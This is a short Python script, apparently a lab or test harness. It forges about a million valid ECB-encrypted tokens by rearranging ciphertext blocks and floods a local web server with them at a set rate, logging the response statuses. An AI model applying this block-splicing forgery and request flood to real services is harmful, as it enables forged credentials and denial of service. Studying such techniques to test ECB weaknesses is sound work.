"""Splice one ECB token into many different ones, and request these until a file appears.

Runs on the box's own Python: flood.py STOP_FILE RATE HOST TOKEN
TOKEN has three blocks or more. Each request has another sequence of its first two blocks
before its last block, so each is a valid token. RATE is the most requests a second.
Prints JSON: the requests, the rate, and how often each status came.
"""

import base64
import collections
import http.client
import itertools
import json
import multiprocessing
import os
import sys
import time

PROCESSES = 4
BLOCK = 16
MIDDLE = 20  # blocks, so that there are a million sequences

stop, rate, host, token = sys.argv[1:]
sealed = base64.urlsafe_b64decode(token)
first, second, last = sealed[:BLOCK], sealed[BLOCK : 2 * BLOCK], sealed[-BLOCK:]


def flood(process, result):
    statuses = collections.Counter()
    connection = http.client.HTTPConnection("127.0.0.1", 80, timeout=60)
    sequences = itertools.product((first, second), repeat=MIDDLE)
    for middle in itertools.islice(sequences, process, None, PROCESSES):
        if os.path.exists(stop):
            break
        turn = statuses.total() * PROCESSES / int(rate)
        time.sleep(max(0, start + turn - time.monotonic()))
        spliced = base64.urlsafe_b64encode(first + b"".join(middle) + last).decode()
        try:
            connection.request("GET", f"/{spliced}", headers={"Host": host})
            answer = connection.getresponse()
            answer.read()
            statuses[str(answer.status)] += 1
        except (OSError, http.client.HTTPException):
            # nginx closes after keepalive_requests (1000)
            connection.close()
            statuses["again"] += 1
    result.put(statuses)


context = multiprocessing.get_context("fork")
result = context.Queue()
start = time.monotonic()
for process in range(PROCESSES):
    context.Process(target=flood, args=(process, result)).start()
statuses = sum((result.get() for _ in range(PROCESSES)), collections.Counter())
seconds = time.monotonic() - start
total = statuses.total()
print(
    json.dumps(
        {"requests": total, "rate": round(total / seconds, 1), "statuses": statuses}
    )
)
